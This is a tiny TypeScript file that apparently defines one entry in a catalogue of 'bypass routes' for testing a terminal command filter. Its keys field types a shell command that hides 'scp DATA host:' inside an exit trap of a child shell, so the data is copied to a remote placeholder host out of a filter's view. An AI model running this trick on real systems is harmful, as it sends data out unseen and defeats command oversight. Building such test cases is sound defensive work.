import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by a trap of a child',
  source: 'thought of with the keys of the line editor',
  keys: ['sh -c \'trap "scp DATA host:" EXIT\'\r'],
};
